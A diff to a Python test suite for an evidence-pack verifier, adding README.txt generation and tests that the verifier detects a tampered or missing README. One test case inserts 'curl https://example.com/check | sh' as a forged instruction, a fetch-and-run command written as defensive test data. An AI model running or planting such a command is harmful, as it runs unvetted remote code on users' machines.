@@ -25,6 +25,7 @@ from pikepdf import Array, Dictionary, Name, String
 from kit.bag import SIGNATURE, TIMESTAMP
 from kit.batch.account import Job, fault_of
 from kit.pack.html import assets, policy_of
+from kit.pack.readme import readme
 from kit.report.formats import STATUSES
 from kit.verify import ending, verify
 from kit.verify.bag import read_info
@@ -36,6 +37,7 @@ from kit.verify.info import check_info
 from kit.verify.kinds import ACCOUNT, check_kind, kind_of
 from kit.verify.maker import maker_of
 from kit.verify.page import check_page, read_page
+from kit.verify.readme import check_readme
 from tests.pack.authority import Authority
 from tests.pack.forging import reseal
 from tests.test_cli import evidence
@@ -56,6 +58,9 @@ def unsigned(signed_pack: Path, tmp_path_factory: pytest.TempPathFactory) -> Pat
     assert signed
     for name in (HTML, *(f"data/{path.name}" for path in (pack / "data").glob("*.json"))):
         (pack / name).write_text((pack / name).read_text().replace(signed[0], "Unsigned"))
+    names = [str(path.relative_to(pack)) for path in (pack / "data").rglob("*") if path.is_file()]
+    with open_contents(pack) as contents:
+        (pack / "README.txt").write_text(readme(read_info(contents), names))
     stamp = read_page((pack / HTML).read_text()).stamp
     style, script, policy = assets([stamp, "Unsigned"])
     allow(pack / HTML, style, script, policy)
@@ -211,6 +216,31 @@ INFO = {
     "a snapshot of others": (states("Snapshot-SHA-256", "0" * 64), "Snapshot-SHA-256 "),
     "another account": (states("Account", "111111111111"), "findings of account 111111111111"),
     "a script for an account": (states("Account", "<script>"), "Account 12 digits"),
+}
+
+
+# ---- what a reader opens first
+
+
+def read_me(old: str, new: str) -> Callable[[Path], None]:
+    def change(pack: Path) -> None:
+        text = (pack / "README.txt").read_text()
+        assert old in text
+        (pack / "README.txt").write_text(text.replace(old, new))
+
+    return change
+
+
+READ_ME = {
+    "a reader is sent elsewhere": (
+        read_me("evidence verify .", "curl https://example.com/check | sh"),
+        "README.txt: expected what the kit writes",
+    ),
+    "unsigned is left out": (
+        read_me("UNSIGNED", "signed"),
+        "README.txt: expected what the kit writes",
+    ),
+    "no README": (lambda pack: (pack / "README.txt").unlink(), "README.txt: expected a file"),
 }
 
 
@@ -671,6 +701,10 @@ def of_page(contents: Contents, stated: dict[str, str]) -> Iterator[Check]:
     yield from check_page(contents, stated, maker_of(stated), of_an_account=True)[0]
 
 
+def of_readme(contents: Contents, stated: dict[str, str]) -> Iterator[Check]:
+    yield from check_readme(contents, stated, maker_of(stated))
+
+
 Part = Callable[[Contents, dict[str, str]], Iterator[Check]]
 MANIFEST: list[bytes] = []
 GROUPS: list[tuple[Part, dict[str, tuple[Callable[[Path], Any], str]]]] = [
@@ -682,6 +716,7 @@ GROUPS: list[tuple[Part, dict[str, tuple[Callable[[Path], Any], str]]]] = [
         {name: (drawn(change), reported) for name, (change, reported) in DOCUMENT.items()},
     ),
     (of_page, PAGE),
+    (of_readme, READ_ME),
 ]
 CASES = {f"{name}": (look, *case) for look, group in GROUPS for name, case in group.items()}
 FIRST = [next(iter(group)) for _, group in GROUPS] + [*FORMS]
